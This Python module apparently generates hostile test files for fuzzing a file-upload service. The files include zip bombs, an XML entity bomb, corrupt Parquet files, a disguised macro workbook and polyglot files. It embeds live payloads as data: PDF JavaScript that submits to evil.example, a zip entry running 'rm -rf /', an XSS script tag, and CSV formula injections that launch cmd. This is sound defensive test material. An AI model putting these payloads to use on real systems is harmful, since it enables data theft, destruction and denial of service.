"""Hostile and polyglot files for the upload fuzzing: zip bombs, truncated Parquet, PDF with JavaScript, ..."""

from __future__ import annotations

import io
import zipfile

import pyarrow as pa
import pyarrow.parquet as pq
from openpyxl import Workbook

CSV = b"region,revenue\nNorth,120\nSouth,95.5\n"
XLSX_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Override PartName="/xl/workbook.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'
)


def pdf(*objects: bytes) -> bytes:
    """A PDF with a correct cross-reference table around `objects` (numbered from 1, the catalog first)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def pdf_with_javascript() -> bytes:
    """A real one-page PDF with text, whose catalog runs JavaScript on open (a valid file with active content)."""
    text = b"BT /F1 12 Tf 20 50 Td (Quarterly revenue grew.) Tj ET"
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(x) 5 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 100] /Contents 4 0 R "
        b"/Resources << /Font << /F1 6 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream",
        b"<< /S /JavaScript /JS (app.alert('pwned'); this.submitForm('http://evil.example/');) >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    )


def xlsx() -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["city", "population"])
    sheet.append(["Oslo", 709000])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _zip(entries: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_bomb_xlsx(inflated_mb: int = 200) -> bytes:
    """A workbook-shaped zip whose sheet inflates ~1000x (200 MB of zeros in ~200 KB)."""
    return _zip({"[Content_Types].xml": XLSX_CONTENT_TYPES, "xl/workbook.xml": b"<workbook/>",
                 "xl/worksheets/sheet1.xml": b"\0" * (inflated_mb * 1024 * 1024)})


def many_entries_xlsx(count: int = 10_050) -> bytes:
    return _zip({"[Content_Types].xml": XLSX_CONTENT_TYPES, "xl/workbook.xml": b"<workbook/>",
                 **{f"m/{n}": b"" for n in range(count)}}, compression=zipfile.ZIP_STORED)


def billion_laughs_xlsx() -> bytes:
    """An XML entity bomb in the one part the server parses itself."""
    lol = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
           + b"".join(b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10)
                      for n in range(1, 10))
           + b']><Types>&lol9;</Types>')
    return _zip({"[Content_Types].xml": lol, "xl/workbook.xml": b"<workbook/>"})


def not_a_workbook_zip() -> bytes:
    return _zip({"readme.txt": b"just a zip"})


def macro_workbook() -> bytes:
    """An .xlsm (macro-enabled) passed off as .xlsx."""
    types = XLSX_CONTENT_TYPES.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml").replace(
        b"spreadsheetml.sheet.macroEnabled", b"ms-excel.sheet.macroEnabled")
    return _zip({"[Content_Types].xml": types, "xl/workbook.xml": b"<workbook/>", "xl/vbaProject.bin": b"\xd0\xcf"})


def parquet() -> bytes:
    buffer = io.BytesIO()
    pq.write_table(pa.table({"x": list(range(100)), "label": [f"r{n}" for n in range(100)]}), buffer)
    return buffer.getvalue()


def truncated_parquet() -> bytes:
    data = parquet()
    return data[: len(data) // 2]


def parquet_with_broken_footer() -> bytes:
    """Magic bytes at both ends (it sniffs as Parquet) around a corrupt footer."""
    data = parquet()
    return data[: len(data) // 2] + b"\xff" * 64 + (200).to_bytes(4, "little") + b"PAR1"


def pdf_header_csv_body() -> bytes:
    return b"%PDF-1.4\n" + CSV


def csv_then_zip() -> bytes:
    """Reads as CSV from the front and as a zip from the back (the central directory is at the end)."""
    return CSV + _zip({"payload.sh": b"#!/bin/sh\nrm -rf /\n" * 50})


def zip_with_pdf_header() -> bytes:
    """A zip whose first entry starts with `%PDF-`, so PDF readers and zip readers both accept it."""
    return _zip({"a.pdf": pdf_with_javascript(), "[Content_Types].xml": XLSX_CONTENT_TYPES,
                 "xl/workbook.xml": b"<workbook/>"}, compression=zipfile.ZIP_STORED)


ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 57 + b"\x02\x00\x3e\x00" + b"\x00" * 200
PNG_AS_CSV = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
HTML_AS_CSV = b"name,html\nx,<script>fetch('/api/files').then(r=>r.text()).then(alert)</script>\n"
FORMULA_CSV = b"name,total\n=cmd|' /C calc'!A0,1\n+SUM(1+1)*cmd|' /C calc'!A0,2\n"
